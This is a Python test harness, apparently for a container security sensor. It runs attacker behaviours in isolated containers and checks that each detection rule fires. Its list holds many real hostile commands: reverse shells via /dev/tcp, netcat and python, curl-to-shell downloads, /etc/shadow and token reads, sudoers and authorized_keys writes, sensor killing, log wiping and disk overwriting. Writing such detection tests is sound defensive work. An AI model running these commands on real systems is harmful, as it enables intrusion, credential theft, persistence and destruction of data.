#!/usr/bin/env python3
# SPDX-License-Identifier: Apache-2.0
"""
Behaviours of attackers, each done for real in a container of its own, while the sensor watches with Seawall's own
rules: the rule that is named must fire, with the id of that container. usage: attacks.py SEAWALL LAB [NAME...]
"""
import sys

from labs import Lab, Watch, why_not

NET = "ip link set lo up; for a in 51.15.1.1 169.254.169.254 10.20.0.1; do ip addr add $a/32 dev lo; done\n"

# (rule, what is done, script[, options])
BEHAVIOURS = [
    ("Miner started", "a miner by name", "xmrig -o pool:3333"),
    ("Miner started", "a renamed miner by its options", "lab x -o stratum+tcp://pool:3333 --donate-level 1"),
    ("Connection to mining pool", "connection to a pool's port", NET + "lab serve 51.15.1.1:14444; lab dial 51.15.1.1:14444"),
    ("Huge pages prepared for mining", "msr written", "mkdir -p /dev/cpu/0; echo 1 >/dev/cpu/0/msr"),
    ("Shell bound to network connection", "reverse shell of bash",
     NET + "lab serve 51.15.1.1:9001; bash -c 'exec 5<>/dev/tcp/51.15.1.1/9001; exec bash <&5 >&5 2>&5'"),
    ("Reverse shell command line", "reverse shell of bash, by its text", "bash -c 'bash -i >& /dev/tcp/127.0.0.1/1 0>&1'"),
    ("Connection becomes input of a program", "reverse shell of a compiled program",
     NET + "lab serve 51.15.1.1:9002; lab revshell 51.15.1.1:9002"),
    ("Network tool runs a program", "netcat with a shell", NET + "lab serve 51.15.1.1:9003; nc 51.15.1.1 9003 -e /bin/sh"),
    ("Reverse shell command line", "reverse shell of python, by its text",
     "python3 -c 'import socket,os;s=socket.socket();s.connect((1,2));os.dup2(s.fileno(),0)'"),
    ("Namespace of the host entered", "nsenter into process 1", "nsenter -t 1 -u true"),
    ("Namespace of the host entered", "setns by a program", "lab setns"),
    ("Name spaces made in container", "a user name space made", "lab unshare"),
    ("Release agent written", "release_agent written", "mkdir /tmp/cg; echo /tmp/x >/tmp/cg/release_agent"),
    ("Kernel hook written from container", "core_pattern opened to be written", "lab openw /proc/sys/kernel/core_pattern"),
    ("Runtime socket used in container", "docker.sock asked", "lab unix /run/docker.sock"),
    ("Host disk opened in container", "a disk opened", ": >/dev/sdz; head -c 1 /dev/sdz"),
    ("Host disk opened in container", "debugfs started", "debugfs /dev/sda"),
    ("Device node made", "a device made by a program", "lab mknod"),
    ("Kernel module load tried", "init_module", "lab init_module"),
    ("Kernel module load tried", "finit_module", "lab finit_module"),
    ("Kernel module load tried", "delete_module", "lab delete_module"),
    ("Kernel module load tried", "insmod", "insmod /tmp/x.ko"),
    ("New kernel loaded from container", "kexec_load", "lab kexec"),
    ("Mount in container", "mount", "mount -t tmpfs none /mnt"),
    ("File system mounted by call", "mount by a program", "lab mount"),
    ("Password file read", "/etc/shadow read", "cat /etc/shadow"),
    ("Service account token read by tool", "service account token read",
     "cat /var/run/secrets/kubernetes.io/serviceaccount/token"),
    ("Credentials searched for", "keys searched for", "find / -maxdepth 2 -name id_rsa"),
    ("Cloud metadata asked by tool", "metadata service asked",
     NET + "lab serve 169.254.169.254:80; nc 169.254.169.254 80 </dev/null"),
    ("Memory of another process read", "ptrace", "lab ptrace"),
    ("Memory of another process taken by call", "process_vm_readv", "lab vm"),
    ("Program not in the image", "a program written and run", "cp /usr/bin/lab /tmp/evil; /tmp/evil"),
    ("Program without a file", "a program run from memory", "lab memfd /usr/bin/lab"),
    ("Program run from shared memory", "a program in /dev/shm run", "cp /usr/bin/lab /dev/shm/x; /dev/shm/x"),
    ("Hidden program run", "a hidden program run", "mkdir /tmp/.x; cp /usr/bin/lab /tmp/.x/d; /tmp/.x/d"),
    ("Package manager in container", "a package installed", "apt-get install nmap"),
    ("Download piped to shell", "a download run", "sh -c 'curl http://127.0.0.1/x | sh'"),
    ("Encoded text run", "an encoded text run", "sh -c 'echo OiB4Cg== | base64 -d | sh'"),
    ("Kubelet contacted from container", "the kubelet's port", NET + "lab serve 10.20.0.1:10250; lab dial 10.20.0.1:10250"),
    ("Etcd contacted from container", "etcd's port", NET + "lab serve 10.20.0.1:2379; lab dial 10.20.0.1:2379"),
    ("Kubectl in container", "kubectl", "kubectl get secrets"),
    ("Network scanned from container", "nmap", "nmap 10.0.0.0/8"),
    ("Login keys written", "authorized_keys written", "echo ssh-rsa x >>/root/.ssh/authorized_keys"),
    ("Dynamic linker hijacked", "ld.so.preload written", "echo /tmp/x.so >/etc/ld.so.preload"),
    ("Cron job written at start", "a cron job written", "echo '* * * * * root x' >/etc/cron.d/x"),
    ("Static pod written", "a static pod written", "echo x >/etc/kubernetes/manifests/x.yaml"),
    ("Logs or history wiped", "history removed", "rm /root/.bash_history"),
    ("Log file emptied in container", "a log emptied", "cp /dev/null /var/log/auth.log; : >/var/log/auth.log"),
    ("Shell history switched off", "history to nowhere", "ln -sf /dev/null /root/.bash_history"),
    ("Program given the rights of its owner", "chmod u+s", "cp /usr/bin/lab /tmp/s; chmod u+s /tmp/s"),
    ("System program written in container", "a program below /usr/bin written", "echo x >/usr/bin/ls2"),
    ("Account file written", "/etc/sudoers written", "echo evil ALL=NOPASSWD: ALL >>/etc/sudoers"),
    ("Configuration written in container", "a file below /etc written", "echo x >/etc/x.conf"),
    ("Host files written from container", "the node's files written through a mount", "echo x >/host/etc/x",
     {"bind_host": True}),
    ("Remote login from container", "ssh", "ssh root@10.0.0.1"),
    ("Network tool in container", "netcat", "nc -h"),
    ("Link to a secret file", "a link to /etc/shadow", "ln -s /etc/shadow /tmp/notes; cat /tmp/notes"),
    ("Password file read", "/etc/shadow read through a link", "ln -s /etc/shadow /tmp/notes2; cat /tmp/notes2"),
    ("Password file read", "/etc/shadow read through a link to its folder", "ln -s / /tmp/x; head -n 1 /tmp/x/etc/shadow"),
    ("Account file written", "/etc/shadow written through a link", "ln -s ../etc /tmp/y; echo x::1:::::: >>/tmp/y/shadow"),
    ("Password file read", "/etc/shadow read through /proc/self/root", "cat /proc/self/root/etc/shadow"),
    ("First process looked into", "the environment of process 1", "(cat /proc/1/environ) | head -c 1"),
    ("First process looked into", "the root of process 1", "(cat /proc/1/root/etc/hostname; ls /proc/1/root/etc/ ; cat /proc/1/root/etc/passwd)"),
    ("Root changed to host files", "chroot into a mounted folder", "chroot /mnt true"),
    ("Kernel program in container", "bpf", "lab bpf"),
    ("Page faults handled in container", "userfaultfd", "lab userfaultfd"),
    ("Kernel keys used in container", "keyctl", "lab keyctl"),
    ("Kernel keys used in container", "add_key", "lab add_key"),
    ("Ring of system calls in container", "io_uring", "lab io_uring"),
    ("Performance counters opened in container", "perf_event_open", "lab perf"),
    ("Packet socket opened in container", "a packet socket", "lab packet"),
    ("File opened by handle", "open_by_handle_at", "lab handle"),
    ("User changed to root", "setuid(0)", "lab setuid"),
    ("Library preloaded from open folder", "LD_PRELOAD", "LD_PRELOAD=/tmp/x.so lab x"),
    ("Firewall changed in container", "packet filters flushed", "iptables -F"),
    ("Account added in container", "useradd", "useradd evil"),
    ("Defence stopped in container", "the sensor ended", "killall falco"),
    ("Running program overwritten", "a running program opened to be written", "lab openw /proc/self/exe"),
    ("Link to a secret file", "a link to core_pattern", "ln -s /proc/sys/kernel/core_pattern /tmp/core"),
    ("File of known malware", "a file of perfctl", "mkdir -p /root/.config/cron; echo x >/root/.config/cron/perfcc"),
    ("Program removed its own file", "a program that removes itself", "mkdir -p /opt; cp /bin/busybox /opt/rm; /opt/rm /opt/rm"),
    ("Program named like a part of the kernel", "a program with the name of a kernel thread",
     "bash -c 'exec -a [kworker/0:0] lab x'"),
    ("Environments of processes searched", "the environment of another process", "sleep 1 & (cat /proc/$!/environ) | head -c 1"),
    ("Rivals ended", "other miners ended", "sh -c 'pkill -9 -f xmrig; rm -rf /tmp/xmrig'"),
    ("Files made unchangeable", "chattr", "chattr +i /root/.ssh"),
    ("Terminal made for remote shell", "a terminal by python", "python3 -c 'import pty; pty.spawn(\"/bin/sh\")'"),
    ("Data destroyed by tool", "a disk overwritten", "dd if=/dev/zero of=/dev/sdz count=1"),
]


def attempt(lab, watch, n, item):
    rule, what, script = item[:3]
    options = item[3] if len(item) > 3 else {}
    binds = []
    if options.get("bind_host"):
        binds = [(lab.dir, "/host/etc")]
    shapes = (None, "/kubepods/burstable/pod0a-1/{id}", "/docker/{id}")
    c = lab.container(script, binds=binds, cgroup=shapes[n % 3])
    a = watch.find(rule, c.id[:12], 3)
    print(f"{'' if a else 'not '}ok {n + 1} - live: {what}: {rule}")
    if not a:
        seen = {x["rule"] for x in watch.alerts() if x["output_fields"].get("container.id") == c.id[:12]}
        print(f"# exit {c.done.returncode}, seen there: {sorted(seen)}")
        c.log.seek(0)
        for line in c.log.read().splitlines()[:5]:
            print("# " + line)
    c.remove()
    return bool(a)


def interactive(lab, watch, n):
    name = "swlab" + str(n)
    c = lab.container("sleep 60", detach=True, name=name)
    c.exec("/bin/sh", "-c", "true", terminal=True)
    a = watch.find("Interactive shell in container", name, 3)
    print(f"{'' if a else 'not '}ok {n} - live: a shell with a terminal in a running container: Interactive shell in container")
    c.remove()


def main():
    seawall, program, only = sys.argv[1], sys.argv[2], sys.argv[3:]
    reason = why_not(seawall)
    if reason:
        print(f"1..1\nok 1 - live attacks # skip {reason}")
        return
    todo = [b for b in BEHAVIOURS if not only or any(o in b[1] or o == b[0] for o in only)]
    watch, lab = Watch(seawall, "--rule-matching", "all"), Lab(program)
    try:
        for n, item in enumerate(todo):
            attempt(lab, watch, n, item)
        n = len(todo) + 1
        interactive(lab, watch, n)
        watch.stop()
        blind = "lost" in watch.errors()
        print(f"{'not ' if blind else ''}ok {n + 1} - live: no event was lost")
        print(f"1..{n + 1}")
    finally:
        watch.p.kill()
        lab.close()


main()
